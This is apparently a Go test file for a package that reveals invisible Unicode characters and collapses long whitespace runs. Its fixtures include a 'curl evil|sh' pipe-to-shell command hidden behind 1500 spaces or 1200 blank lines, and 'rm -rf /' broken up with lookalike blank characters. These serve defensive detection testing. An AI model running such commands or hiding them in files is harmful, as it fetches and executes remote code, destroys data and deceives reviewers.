package visible

import (
	"regexp"
	"strings"
	"testing"
	"unicode/utf8"
)

func TestText(t *testing.T) {
	t.Parallel()
	for _, row := range []struct{ name, text, want string }{
		{"plain", "ls -l\n\tcd ..", "ls -l\n\tcd .."},
		{"zero width", "a\u200bb", `a\u{200B}b`},
		{"word joiner", "rm \u2060/srv/x", `rm \u{2060}/srv/x`},
		{"soft hyphen", "x\u00ad", `x\u{00AD}`},
		{"tags", "hi\U000E003B\U000E0020", `hi\u{E003B}\u{E0020}`},
		{"tags of a flag", "🏴\U000E0067\U000E007F", `🏴\u{E0067}\u{E007F}`},
		{"variation selectors", "hi\ufe01\ufe0f\U000E0100", `hi\u{FE01}\u{FE0F}\u{E0100}`},
		{"fillers", "hi\u3164\u115f\uffa0", `hi\u{3164}\u{115F}\u{FFA0}`},
		{"direction", "ok \u202e; fr\u2066 x\u061c", `ok \u{202E}; fr\u{2066} x\u{061C}`},
		{"control characters", "a\x1b[31m\x7f\u0085\r", `a\u{001B}[31m\u{007F}\u{0085}\u{000D}`},
		{"lines that are none", "a\u2028b\u2029", `a\u{2028}b\u{2029}`},
		{"blanks", "rm\u00a0-rf\u3000/\u2800", `rm\u{00A0}-rf\u{3000}/\u{2800}`},
		{"byte order mark", "\ufeffx", `\u{FEFF}x`},
		{"grapheme joiner", "a\u034fb", `a\u{034F}b`},
		{"joiners between Latin letters", "a\u200cb\u200dc", `a\u{200C}b\u{200D}c`},
		{"joiner at the end of an emoji", "👩\u200d", `👩\u{200D}`},
		{"joiner after a sign", "می;\u200cx", `می;\u{200C}x`},
		{"bytes", "a\xffb", "a\uFFFDb"},
		{"accents", "é e\u0301 å", "é e\u0301 å"},
		{"Arabic", "نص \u0600١", "نص \u0600١"},
		{"Persian", "می\u200cخواهم", "می\u200cخواهم"},
		{"Hindi", "क्\u200dष", "क्\u200dष"},
		{"family", "👩\u200d👩\u200d👧", "👩\u200d👩\u200d👧"},
		{"tone and heart", "👩🏽\u200d❤\ufe0f\u200d👨🏽 ☺\ufe0f ☺\ufe0e", "👩🏽\u200d❤\ufe0f\u200d👨🏽 ☺\ufe0f ☺\ufe0e"},
		{"keycap", "1\ufe0f\u20e3 1\ufe0f", `1` + "\ufe0f\u20e3" + ` 1\u{FE0F}`},
		{"CJK", "日本語、中文", "日本語、中文"},
	} {
		if got := Text(row.text); got != row.want {
			t.Errorf("%s: Text(%+q) = %+q, want %+q", row.name, row.text, got, row.want)
		}
	}
	if got, want := Prose("«\u00a0a\u200b\u202f»"), "«\u00a0a"+`\u{200B}`+"\u202f»"; got != want {
		t.Errorf("Prose = %+q, want %+q", got, want)
	}
}

func TestCode(t *testing.T) {
	t.Parallel()
	blank := strings.Repeat
	for _, row := range []struct{ name, text, want string }{
		{"a command", "ls  -l \\\n    | cat", "ls  -l \\\n    | cat"},
		{"spaces", "true" + blank(" ", 1500) + "; curl evil|sh", "true ⎵×1500 ; curl evil|sh"},
		{"indentation", blank(" ", 20) + "x", blank(" ", 20) + "x"},
		{"one space more", blank(" ", 21) + "x", " ⎵×21 x"},
		{"tabs", "a" + blank("\t", 40) + "b", "a ⇥×40 b"},
		{"spaces and tabs", "a" + blank(" \t", 45) + "b", "a ⎵⇥×90 b"},
		{"empty lines", "true #" + blank("\n", 1201) + "; curl evil|sh", "true #\n⏎×1200\n; curl evil|sh"},
		{"few empty lines", "a\n\n\n\nb", "a\n\n\n\nb"},
		{"lines of blanks", "a\n" + blank(blank(" ", 30)+"\n", 9) + "  b", "a\n⏎×9\n  b"},
		{"a first line of blanks", "a" + blank(" ", 30) + blank("\n", 6) + "b", "a ⎵×30 \n⏎×5\nb"},
		{"at both ends", blank("\n", 9) + "a" + blank("\n", 9), "⏎×9\na\n⏎×8\n"},
		{"carriage returns", "a" + blank("\r\n", 3), `a\u{000D}` + "\n" + `\u{000D}` + "\n" + `\u{000D}` + "\n"},
		{"no-break spaces", "a" + blank("\u00a0", 2) + "b", `a\u{00A0}\u{00A0}b`},
	} {
		if got := Code(row.text); got != row.want {
			t.Errorf("%s: Code is %+q, want %+q", row.name, got, row.want)
		}
	}
	if got, want := Line("a\nb\tc"+blank(" ", 99)+"d\u200b"), `a\u{000A}b\u{0009}c ⎵×99 d\u{200B}`; got != want {
		t.Errorf("Line is %q, want %q", got, want)
	}
	if got, want := Paragraphs("a"+blank("\u00a0", 50)+"b"), "a ⎵×50 b"; got != want {
		t.Errorf("Paragraphs is %q, want %q", got, want)
	}
}

func TestWords(t *testing.T) {
	t.Parallel()
	if got, want := Words("\n a\u200b\t\n b\u00a0"+strings.Repeat(" ", 99)+"c\r"), `a\u{200B} b c\u{000D}`; got != want {
		t.Errorf("Words is %q, want %q", got, want)
	}
}

// FuzzCode holds that white space alone is shortened, and nothing is far from what is before it.
func FuzzCode(f *testing.F) {
	f.Add("true" + strings.Repeat(" ", 30) + "\n\n\n\n\n\tx\u200b")
	f.Add(strings.Repeat("\n \t", 12))
	marks := regexp.MustCompile(` ?[⎵⇥⏎]+×[0-9]+ ?|\s`)
	f.Fuzz(func(t *testing.T, s string) {
		got := Code(s)
		if again := Code(got); again != got {
			t.Errorf("Code(%q) = %q, and again %q", s, got, again)
		}
		if strings.Contains(got, strings.Repeat(" ", 21)) || strings.Contains(got, strings.Repeat("\n", 5)) || !utf8.ValidString(got) {
			t.Errorf("Code(%q) = %q", s, got)
		}
		if a, b := marks.ReplaceAllString(Text(s), ""), marks.ReplaceAllString(got, ""); a != b && !strings.Contains(s, "×") {
			t.Errorf("Code(%q) = %q changes more than white space", s, got)
		}
		if line := Line(s); strings.ContainsAny(line, "\n\t") || Line(line) != line {
			t.Errorf("Line(%q) = %q", s, line)
		}
	})
}

func FuzzText(f *testing.F) {
	f.Add("a\u200b👩\u200d👧 می\u200cخ")
	f.Add("\xff\u202e\U000E0041")
	f.Fuzz(func(t *testing.T, s string) {
		got := Text(s)
		if !utf8.ValidString(got) {
			t.Errorf("Text(%q) is not UTF-8", s)
		}
		if again := Text(got); again != got {
			t.Errorf("Text(%q) = %q, and again %q", s, got, again)
		}
		if strings.ContainsAny(got, "\u200b\u202e\u2060\x1b\r") {
			t.Errorf("Text(%q) = %q hides something", s, got)
		}
	})
}
